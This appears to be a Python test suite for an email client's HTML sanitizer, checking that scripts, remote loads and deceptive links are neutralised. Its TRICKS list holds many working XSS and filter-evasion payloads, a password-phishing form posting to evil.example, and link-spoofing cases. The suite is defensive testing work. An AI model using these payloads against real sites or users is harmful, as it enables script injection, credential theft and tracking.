"""HTML of strangers: nothing runs, nothing loads, links say where they lead."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from inbox.engine.mail.html_text import text_of
from inbox.engine.mail.safe_html import link_of, safe_html, true_host

#: Collected from OWASP's filter evasion sheet, DOMPurify's and ammonia's tests, and real mails.
TRICKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script/x>alert(1)</script/x>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    "<img srcset='https://evil.example/a 1x'>",
    "<img lowsrc=https://evil.example/a dynsrc=https://evil.example/b>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href=' &#1; javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='/admin/logout/'>x</a>",
    "<a href=x onclick=alert(1) onmouseover=alert(1)>x</a>",
    "<a id=config name=config href='https://a.example'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=https://evil.example/x.swf>",
    "<applet code=x></applet>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>body{background:url(https://evil.example/p.gif)}</style>",
    "<p style='background:url(https://evil.example/p.gif)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='behavior:url(x.htc);-moz-binding:url(x.xml)'>x</p>",
    "<div style='content:\"\\75\\72\\6c(x)\"'>x</div>",
    "<table background='https://evil.example/p.gif'><td background=https://evil.example/q>x</table>",
    "<body background=https://evil.example/p.gif onload=alert(1)>x</body>",
    "<video poster=https://evil.example/p.gif><source src=https://evil.example/v></video>",
    "<audio src=https://evil.example/a autoplay></audio>",
    "<input type=image src=https://evil.example/p.gif>",
    "<form action=https://evil.example/><input name=password><button>Log in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action=javascript:alert(1)>",
    "<div class='modal-open' hx-get='/x' x-data='alert(1)' data-hx-get=/x @click=alert(1)>x</div>",
    "<p data-remote-src=https://evil.example data-cid=x data-host=bank.example>x</p>",
    "<a href='https://evil.example' data-host='bank.example' data-misleading=''>x</a>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<%<!--'%><script>alert(1);</script -->",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<img alt='\"onerror=alert(1) x=\"' src=https://a.example/x>",
    "<a href='https://a.example/\"onmouseover=alert(1)'>x</a>",
    "<p dir='\" onclick=\"alert(1)' lang='x onclick'>x</p>",
)  # fmt: skip
ALLOWED = {
    "a": {"href", "title", "data-host", "data-misleading", "target", "rel"},
    "img": {"alt", "height", "title", "width", "data-remote-src", "data-cid"},
    "ol": {"start"}, "td": {"colspan", "rowspan"}, "th": {"colspan", "rowspan"},
}  # fmt: skip
EVERYWHERE = {"align", "dir", "lang", "valign"}
FORBIDDEN = {
    "script", "style", "iframe", "object", "embed", "form", "input", "button", "svg", "math",
    "base", "meta", "link", "template", "textarea", "select", "video", "audio", "source",
    "details", "marquee", "body", "html", "head", "title", "noscript", "applet", "font",
}  # fmt: skip


class Reader(HTMLParser):
    """Another parser than those that wrote it."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def require_harmless(shown: str) -> None:
    for tag, attributes in Reader(shown).found:
        assert tag not in FORBIDDEN, shown
        assert set(attributes) <= ALLOWED.get(tag, set()) | EVERYWHERE, shown
        if "href" in attributes:
            assert re.match(r"(?:https?|mailto|tel):", attributes["href"]), shown
        if tag == "a":
            assert attributes["target"] == "_blank"
            assert attributes["rel"] == "noopener noreferrer nofollow"


@pytest.mark.parametrize("trick", TRICKS)
def test_a_trick_does_nothing(trick: str) -> None:
    for source in (trick, f"<div><p>{trick}", f"<table><tr>{trick}</table>", f"<b><a>{trick}"):
        require_harmless(safe_html(source))


PIECES = st.sampled_from(
    [*(trick for trick in TRICKS), "<p>", "</p>", "<b>", "</b>", "<table>", "<td>", "</table>",
     "<a href=https://a.example>", "</a>", "'", '"', "<", ">", "&lt;", "&#60;", "--", "=", "text",
     "<li>", "<pre>", "</svg>", "</style>", "<blockquote>", "</blockquote>"]
)  # fmt: skip


@given(pieces=st.lists(PIECES, max_size=10))
@settings(max_examples=100, deadline=None)
def test_tricks_together_do_nothing_and_nothing_is_left_to_clean(pieces: list[str]) -> None:
    shown = safe_html("".join(pieces))

    require_harmless(shown)
    attributes = {tag: names - {"rel"} for tag, names in ALLOWED.items()}
    again = nh3.clean(
        shown,
        tags=nh3.ALLOWED_TAGS | {"center", "big", "font", "dfn"},
        attributes=attributes | {"*": EVERYWHERE},
        link_rel="noopener noreferrer nofollow",
    )
    assert Reader(again).found == Reader(shown).found


def test_pictures_wait_for_a_person() -> None:
    shown = safe_html(
        '<img src="https://t.example/p.gif?id=1" width="1" alt="Logo"><img src="//cdn.example/a">'
        '<img src="cid:Pic@1"><img src="CID:<b@c>"><img src="data:image/png;base64,AAAA" alt="d">'
    )

    assert shown == (
        '<img width="1" alt="Logo" data-remote-src="https://t.example/p.gif?id=1">'
        '<img data-remote-src="https://cdn.example/a"><img data-cid="Pic@1">'
        '<img data-cid="b@c"><img alt="d">'
    )


@pytest.mark.parametrize(
    ("text", "href", "host", "is_misleading"),
    [
        ("here", "https://shop.example/a", "shop.example", False),
        ("shop.example", "https://shop.example/a", "shop.example", False),
        ("https://shop.example/x", "https://www.shop.example", "www.shop.example", False),
        ("shop.example", "https://help.shop.example", "help.shop.example", False),
        ("https://bank.example/login", "https://evil.example/", "evil.example", True),
        ("bank.example", "https://bank.example.evil.example", "bank.example.evil.example", True),
        ("www.bank.example", "https://bank.example@evil.example", "evil.example", True),
        ("bank.example", "https://evil.example\\@bank.example", "evil.example", True),
        ("bank.example", "https:evil.example", "evil.example", True),
        ("bänk.example", "https://bänk.example", "xn--bnk-qla.example", False),
        ("bank.example", "https://b\u0430nk.example", "xn--bnk-6cd.example", True),
        ("See www.bank.example now", "https://evil.example", "evil.example", True),
        ("Ask Mr. Smith", "https://evil.example", "evil.example", False),
    ],
)
def test_links_show_their_host(text: str, href: str, host: str, *, is_misleading: bool) -> None:
    (_, attributes), *_ = Reader(safe_html(f'<a href="{href}">{text}</a>')).found

    assert attributes["data-host"] == host
    assert ("data-misleading" in attributes) is is_misleading


@pytest.mark.parametrize(
    ("value", "link"),
    [
        ("mailto:mara@example.com?subject=x", "mailto:mara@example.com?subject=x"),
        ("tel:+49301234", "tel:+49301234"),
        ("HTTPS://Shop.example/A b", "https://Shop.example/Ab"),
        ("https:///shop.example", "https://shop.example"),
        ("//shop.example", ""),
        ("/path", ""),
        ("https://", ""),
        ("https://[::1", ""),
        ("ftp://shop.example", ""),
    ],
)
def test_links_are_read_as_browsers_read_them(value: str, link: str) -> None:
    assert link_of(value) == link


def test_hosts_are_shown_as_they_are_registered() -> None:
    assert true_host("https://EXAMPLE.com:8080/x") == "example.com"
    assert true_host("mailto:a@b.c") == ""


def test_what_is_written_stays() -> None:
    source = (
        "<h2>Hello</h2><p>1 &lt; 2 &amp; <b>bold</b></p><ul><li>one<li>two</ul>"
        '<table><tr><td colspan="2" align="right">x</td></tr></table>'
    )

    assert safe_html(source) == (
        "<h2>Hello</h2><p>1 &lt; 2 &amp; <b>bold</b></p><ul><li>one</li><li>two</li></ul>"
        '<table><tbody><tr><td colspan="2" align="right">x</td></tr></tbody></table>'
    )


@pytest.mark.parametrize(
    "source",
    [
        "<div>" * 60_000,
        "<" * 120_000,
        "<a '" * 60_000,
        "<!--" * 200_000,
        "".join(f"<p><b id={n}>x" for n in range(5_000)),
        "<b><table></b></table>" * 5_000,
    ],
    ids=["deep", "open", "quotes", "comments", "formats", "crossed"],
)
def test_no_html_takes_long(source: str) -> None:
    shown = safe_html(source)

    # ammonia alone: minutes for the first, gigabytes for the fifth.
    assert len(shown) <= 4 * len(source)
    assert text_of(source) is not None


# As text


@pytest.mark.parametrize(
    ("source", "text"),
    [
        ("<p>One</p><p>Two<br>three</p>", "One\n\nTwo\nthree"),
        ("<ul><li>a<li>b</ul>", "- a\n- b"),
        ("a&nbsp;b \n\n c&#8203;d", "a b c d"),
        ("<blockquote>x<blockquote>y</blockquote></blockquote>z", "> x\n>> y\nz"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc"),
        ("<pre>a  b\n  c</pre>", "a  b\n  c"),
        ("<style>x</style><title>t</title><script>s</script>y<!-- z -->", "y"),
        ("<img alt='Logo'>x", "[Logo]x"),
        ("no tags & <3", "no tags & <3"),
        ("", ""),
    ],
)
def test_html_is_read_as_text(source: str, text: str) -> None:
    assert text_of(source) == text
